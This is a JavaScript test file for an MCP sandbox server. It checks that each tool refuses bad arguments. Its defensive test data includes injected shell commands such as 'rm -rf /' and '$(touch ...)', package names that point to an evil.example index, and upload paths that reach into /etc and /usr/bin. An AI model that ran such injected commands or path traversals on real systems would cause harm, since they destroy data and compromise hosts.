// SPDX-License-Identifier: MIT
// Case 4: bad inputs to every tool through client.callTool. A tool that ran
// and refused is a result with isError: true; an unknown tool is a JSON-RPC
// error -32602 (the SDK throws McpError).
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';

import { McpError } from '@modelcontextprotocol/sdk/types.js';

import { check } from './tap.mjs';
import { call, callErr, callOk, cfg } from './util.mjs';

const HOSTILE_PACKAGES = [
	'x; rm -rf /',
	'--index-url=http://evil.example/simple',
	'pkg @ file:///etc',
	'-r /etc/passwd',
	'sbxdemo --extra-index-url http://evil.example',
	'$(touch /tmp/pwned-e2e)',
	'`touch /tmp/pwned-e2e`',
	'../../etc/passwd',
	'http://evil.example/pkg.whl',
	'',
	'a'.repeat(5000),
	'pkg\nrm -rf /',
];

// Runs every case and fails with the list of those that were not refused.
async function allRefused(client, tool, cases) {
	const accepted = [];
	for (const [args, what] of cases) {
		try {
			await callErr(client, tool, args, what);
		} catch (e) {
			accepted.push(e.message.split('\n')[0]);
		}
	}
	assert.equal(accepted.length, 0, `${tool}: ${accepted.length} of ${cases.length} bad inputs not refused:\n${accepted.join('\n')}`);
}

export async function badInputCase(client, sid) {
	const t = (name) => `bad input: ${name}`;
	const NO_BOX = 'no-such-sandbox-e2e';

	await check(t('create_sandbox: mistyped, hostile and taken names'), async () => {
		await allRefused(client, 'create_sandbox', [
			[{ name: 42 }, 'name: 42'],
			[{ name: ['a'] }, 'name: [a]'],
			[{ name: '../x' }, "name '../x'"],
			[{ name: 'a b;rm -rf /' }, 'name with shell syntax'],
			[{ name: 'x'.repeat(65) }, 'a name of 65 characters'],
			[{ name: 'e2e-shared' }, 'the name of an existing sandbox'],
			[{ name: 'ok', extra: true }, 'an unknown argument'],
		]);
	});
	await check(t('execute_python_code: missing, mistyped, unknown sandbox'), async () => {
		const cases = [
			[{}, 'no arguments'],
			[{ sandbox_id: sid }, 'no code'],
			[{ code: 'print(1)' }, 'no sandbox_id'],
			[{ sandbox_id: 7, code: 'print(1)' }, 'sandbox_id: 7'],
			[{ sandbox_id: sid, code: 123 }, 'code: 123'],
			[{ sandbox_id: sid, code: 'print(1)', timeout: 'soon' }, "timeout: 'soon'"],
			[{ sandbox_id: sid, code: 'print(1)', timeout: -5 }, 'timeout: -5'],
			[{ sandbox_id: NO_BOX, code: 'print(1)' }, 'unknown sandbox'],
			[{ sandbox_id: '../../etc', code: 'print(1)' }, 'hostile sandbox id'],
			[{ sandbox_id: sid, code: 'print(1)', extra: 1 }, 'an unknown argument'],
			[{ sandbox_id: sid, code: '' }, 'empty code'],
		];
		await allRefused(client, 'execute_python_code', cases);
	});
	await check(t('execute_terminal_command: missing, mistyped, unknown sandbox'), async () => {
		const cases = [
			[{}, 'no arguments'],
			[{ sandbox_id: sid }, 'no command'],
			[{ command: 'true' }, 'no sandbox_id'],
			[{ sandbox_id: sid, command: ['ls'] }, 'command: [ls]'],
			[{ sandbox_id: sid, command: 'true', timeout: {} }, 'timeout: {}'],
			[{ sandbox_id: NO_BOX, command: 'true' }, 'unknown sandbox'],
		];
		await allRefused(client, 'execute_terminal_command', cases);
	});
	await check(t('install_package_in_sandbox: missing, mistyped, unknown sandbox'), async () => {
		const cases = [
			[{}, 'no arguments'],
			[{ sandbox_id: sid }, 'no package_name'],
			[{ package_name: 'sbxdemo' }, 'no sandbox_id'],
			[{ sandbox_id: sid, package_name: 5 }, 'package_name: 5'],
			[{ sandbox_id: NO_BOX, package_name: 'sbxdemo' }, 'unknown sandbox'],
		];
		await allRefused(client, 'install_package_in_sandbox', cases);
	});
	await check(t('install_package_in_sandbox: hostile package names'), async () => {
		await allRefused(client, 'install_package_in_sandbox', HOSTILE_PACKAGES.map((name) => [{ sandbox_id: sid, package_name: name }, JSON.stringify(name.slice(0, 60))]));
	});
	await check(t('check_package_installation_status: missing, mistyped, unknown sandbox, hostile name'), async () => {
		const cases = [
			[{}, 'no arguments'],
			[{ sandbox_id: sid }, 'no package_name'],
			[{ sandbox_id: sid, package_name: null }, 'package_name: null'],
			[{ sandbox_id: NO_BOX, package_name: 'sbxdemo' }, 'unknown sandbox'],
			[{ sandbox_id: sid, package_name: 'x; rm -rf /' }, 'hostile name'],
		];
		await allRefused(client, 'check_package_installation_status', cases);
	});
	await check(t('the hostile names ran nothing in the sandbox'), async () => {
		const r = await callOk(client, 'execute_terminal_command', { sandbox_id: sid, command: 'ls /tmp/pwned-e2e 2>&1; ls /app/results >/dev/null && echo alive' });
		assert.match(r.stdout, /No such file/, r.stdout);
		assert.match(r.stdout, /alive/);
	});
	const file = `${cfg.uploadDir}/bad-input-e2e.txt`;
	writeFileSync(file, 'bad input\n');
	await check(t('upload_file_to_sandbox: missing, mistyped, unknown sandbox'), async () => {
		await allRefused(client, 'upload_file_to_sandbox', [
			[{}, 'no arguments'],
			[{ sandbox_id: sid }, 'no local_file_path'],
			[{ local_file_path: file }, 'no sandbox_id'],
			[{ sandbox_id: sid, local_file_path: 17 }, 'local_file_path: 17'],
			[{ sandbox_id: sid, local_file_path: file, dest_path: false }, 'dest_path: false'],
			[{ sandbox_id: NO_BOX, local_file_path: file }, 'unknown sandbox'],
		]);
	});
	await check(t('upload_file_to_sandbox: dest_path outside /app/results and /tmp is refused'), async () => {
		await allRefused(client, 'upload_file_to_sandbox', [
			[{ sandbox_id: sid, local_file_path: file, dest_path: '/app/results/../../etc' }, "dest_path with '..'"],
			[{ sandbox_id: sid, local_file_path: file, dest_path: '../../etc' }, "relative dest_path with '..'"],
			[{ sandbox_id: sid, local_file_path: file, dest_path: '/app/results/a\u0000b' }, 'dest_path with NUL'],
			[{ sandbox_id: sid, local_file_path: file, dest_path: '/etc' }, 'dest_path /etc'],
			[{ sandbox_id: sid, local_file_path: file, dest_path: '/etc/profile.d/e2e.sh' }, 'dest_path /etc/profile.d/e2e.sh'],
			[{ sandbox_id: sid, local_file_path: file, dest_path: '/usr/bin' }, 'dest_path /usr/bin'],
			[{ sandbox_id: sid, local_file_path: file, dest_path: '/proc/self' }, 'dest_path /proc/self'],
			[{ sandbox_id: sid, local_file_path: file, dest_path: '/no/such/dir/' }, 'dest_path in a missing directory'],
		]);
	});
	await check(t('no refused upload reached the sandbox'), async () => {
		const r = await callOk(client, 'execute_terminal_command', {
			sandbox_id: sid,
			command: 'ls -d /etc/bad-input-e2e.txt /etc/profile.d/e2e.sh /usr/bin/bad-input-e2e.txt 2>/dev/null; true',
		});
		assert.equal(r.stdout, '', `uploads reached: ${r.stdout}`);
	});
	await check(t('an unknown tool is JSON-RPC error -32602 (McpError)'), async () => {
		let thrown;
		try {
			await call(client, 'no_such_tool_e2e', {});
		} catch (e) {
			thrown = e;
		}
		assert.ok(thrown instanceof McpError, `expected McpError, got ${thrown}`);
		assert.equal(thrown.code, -32602);
	});
	await check(t('the session still works after the errors'), async () => {
		const r = await callOk(client, 'execute_terminal_command', { sandbox_id: sid, command: 'echo still-fine' });
		assert.equal(r.stdout, 'still-fine\n');
	});
}
